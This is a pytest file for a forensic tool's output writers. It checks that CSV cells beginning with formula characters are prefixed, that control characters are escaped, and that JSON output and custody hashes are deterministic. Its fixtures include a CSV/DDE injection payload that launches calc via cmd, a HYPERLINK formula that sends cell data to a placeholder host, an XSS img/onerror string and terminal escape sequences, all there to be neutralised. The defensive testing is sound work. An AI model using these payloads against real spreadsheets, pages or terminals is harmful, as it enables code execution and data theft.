"""Output writers: formula neutralisation, deterministic JSON, custody hashes."""

from __future__ import annotations

import hashlib

import numpy as np
import pandas as pd

from labforensics.custody import EvidenceFile, hash_outputs, sha256_file
from labforensics.outputs import json_safe, neutralise_frame, write_csv, write_json, write_parquet
from labforensics.schema import STRING_LIST, join_list


def test_text_cells_starting_with_formula_characters_are_prefixed():
    df = pd.DataFrame(
        {
            "account": [
                '=HYPERLINK("http://x.example/?"&A1;"ok")',
                "@SUM(1+1)",
                "+33 2 99",
                "-5.2",
                "ok",
                "-2+3+cmd|' /C calc'!A0",
                "+33612345616",
                "+33 (0)6 12 34 56 16",
            ],
            "score": [-5.2, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        }
    )
    out = neutralise_frame(df)
    assert out["account"].tolist() == [
        '\'=HYPERLINK("http://x.example/?"&A1;"ok")',
        "'@SUM(1+1)",
        # a signed number in a text column is text and is neutralised (shared case 009;
        # the exemption of session 9 is gone, QA session 10 item 1)
        "'+33 2 99",
        "'-5.2",
        "ok",
        "'-2+3+cmd|' /C calc'!A0",  # an operator and a pipe: a formula, prefixed
        "'+33612345616",
        "'+33 (0)6 12 34 56 16",
    ]
    assert out["score"].dtype == np.float64 and out["score"].iloc[0] == -5.2  # numbers stay numbers


def test_tab_and_carriage_return_prefixes_are_neutralised(tmp_path):
    p = write_csv(pd.DataFrame({"x": ["\tcmd", "\rcmd", "a"]}), tmp_path / "q.csv")
    lines = p.read_text(encoding="utf-8").splitlines()
    assert lines[1] == "'\tcmd"
    assert lines[0] == "x"


def test_case_009_values_in_a_text_column_and_a_numeric_one(tmp_path):
    # shared/cases/009-hostile-text/expected.md: text cells starting with =, +, -, @
    # are prefixed with '; a text cell -5.2 is text and is neutralised; a score of
    # -5.2 stays a number, unprefixed
    df = pd.DataFrame(
        {
            "accounts_succeeded": [
                '=HYPERLINK("http://x.example/?"&A1;"ok")',
                "@SUM(1+1)",
                "+33 2 99 00 00 00",
                "-5.2",
                "<img src=x onerror=alert(1)>",
            ],
            "score": [-5.2, 0.0, 1.5, 2.0, 3.0],
        }
    )
    lines = write_csv(df, tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()
    assert lines == [
        "accounts_succeeded,score",
        '"\'=HYPERLINK(""http://x.example/?""&A1;""ok"")",-5.2',
        "'@SUM(1+1),0.0",
        "'+33 2 99 00 00 00,1.5",
        "'-5.2,2.0",
        "<img src=x onerror=alert(1)>,3.0",
    ]


def test_control_characters_are_visible_escapes_in_csv(tmp_path):
    # QA session 10 item 2: `cat sources.csv` cleared the terminal
    df = pd.DataFrame(
        {
            "account": [
                "evil\x1b[31mRED\x1b[0m",
                "\x1b[2J\x1b[Hcleared",
                "pc-\x1b]0;pwn\x07",
                "\rcmd",  # neutralised on the value as recorded, then shown
                "a\u202eb\x85c\x7f",  # right-to-left override, C1 NEL, DEL
                "tab\tkept",
                None,
            ],
            "n": [1, 2, 3, 4, 5, 6, 7],
        }
    )
    p = write_csv(df, tmp_path / "c.csv")
    raw = p.read_bytes()
    assert b"\x1b" not in raw and b"\x07" not in raw and b"\r" not in raw
    assert p.read_text(encoding="utf-8").splitlines() == [
        "account,n",
        "evil\\x1b[31mRED\\x1b[0m,1",
        "\\x1b[2J\\x1b[Hcleared,2",
        "pc-\\x1b]0;pwn\\x07,3",
        "'\\x0dcmd,4",
        "a\\u202eb\\x85c\\x7f,5",
        "tab\tkept,6",
        ",7",
    ]
    assert df["account"].iloc[0] == "evil\x1b[31mRED\x1b[0m"  # the frame is not modified


def test_json_is_deterministic_and_utc(tmp_path):
    obj = {"b": 1.23456789, "a": pd.Timestamp("2019-07-01 02:10", tz="Europe/Paris"), "n": np.nan}
    p1 = write_json(obj, tmp_path / "1.json")
    p2 = write_json(dict(reversed(list(obj.items()))), tmp_path / "2.json")
    assert p1.read_bytes() == p2.read_bytes()  # key order does not matter
    # 02:10 CEST (UTC+2) is 00:10 UTC
    assert json_safe(obj)["a"] == "2019-07-01T00:10:00Z"
    assert json_safe(obj)["n"] is None


def test_sha256_and_output_hashes(tmp_path):
    f = tmp_path / "e.csv"
    f.write_bytes(b"abc")
    digest, size = sha256_file(f)
    assert digest == hashlib.sha256(b"abc").hexdigest() and size == 3
    (tmp_path / "manifest.json").write_text("{}")
    rows = hash_outputs(tmp_path, exclude=("manifest.json",))
    assert [r["path"] for r in rows] == ["e.csv"]
    assert EvidenceFile.hash(f, "e.csv").sha256 == digest


def _list_frame() -> pd.DataFrame:
    hosts = pd.Series([["pc-1", "pc-2"], [], None, ["=cmd|x"]], dtype=STRING_LIST)
    return pd.DataFrame({"session_id": ["a", "b", "c", "d"], "hosts": hosts})


def test_list_columns_round_trip_through_parquet(tmp_path):
    # list cells stay lists in Parquet; pandas can read the file back (pandas#57411 avoided)
    p = write_parquet(_list_frame(), tmp_path / "s.parquet")
    plain = pd.read_parquet(p)
    assert [None if v is None else list(v) for v in plain["hosts"]] == [
        ["pc-1", "pc-2"], [], None, ["=cmd|x"]
    ]  # fmt: skip
    arrow = pd.read_parquet(p, dtype_backend="pyarrow")
    assert arrow["hosts"].tolist()[0] == ["pc-1", "pc-2"]


def test_list_columns_are_joined_only_in_text_outputs(tmp_path):
    # CSV is a text edge: items joined by " | ", empty list -> empty cell, formulas neutralised
    p = write_csv(_list_frame(), tmp_path / "s.csv")
    lines = p.read_text(encoding="utf-8").splitlines()
    assert lines == ["session_id,hosts", "a,pc-1 | pc-2", "b,", "c,", "d,'=cmd|x"]
    assert join_list(_list_frame()["hosts"]).tolist()[:2] == ["pc-1 | pc-2", pd.NA]
